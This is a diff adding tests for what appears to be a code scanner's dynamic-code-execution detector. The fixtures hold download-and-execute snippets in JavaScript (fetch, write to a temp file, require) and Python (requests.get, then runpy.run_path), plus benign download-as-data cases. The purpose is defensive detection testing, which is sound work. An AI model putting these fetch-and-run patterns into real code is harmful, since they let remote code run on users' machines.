@@ -2992,3 +2992,17 @@ describe('dynamic-code-execution: eval by the other constructors and loaders of 
     expect(sink(['const load = async function () { return 1; };', 'const d = Reflect.construct(Date, [2020, 1, 1]);', "const m = await import('./plugins/' + name + '.js');", 'const kind = value.constructor.name;'])).toEqual([]);
   });
 });
+
+describe('dynamic-code-execution: downloaded code written to a file and loaded as a module', () => {
+  const sink = (path: string, lines: readonly string[]) => scan([makeFile(path, { patch: hunk(lines) })]).filter((f) => f.id === 'dynamic-code-execution').map((f) => f.severity);
+
+  it('reports a download written to a file that the hunk then requires, imports or runs with runpy', () => {
+    expect(sink('src/sync.js', ["  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();", "  const f = path.join(os.tmpdir(), 'c.js');", '  fs.writeFileSync(f, code);', '  require(f);'])).toEqual(['high']);
+    expect(sink('pkg/update.py', ['    body = requests.get("http://203.0.113.9/u.py").text', '    with open(target, "w") as fh:', '        fh.write(body)', '    runpy.run_path(target)'])).toEqual(['critical']);
+  });
+
+  it('is quiet on a download saved as data, and on a module loaded by a literal path beside a download', () => {
+    expect(sink('src/cache.js', ["  const data = await (await fetch('https://api.acme.dev/x')).text();", "  fs.writeFileSync('cache.json', data);", '  return JSON.parse(data);'])).toEqual([]);
+    expect(sink('src/cache.js', ["  const data = await (await fetch('https://api.acme.dev/x')).text();", "  fs.writeFileSync('cache.json', data);", "  const cfg = require('./config.js');"])).toEqual([]);
+  });
+});
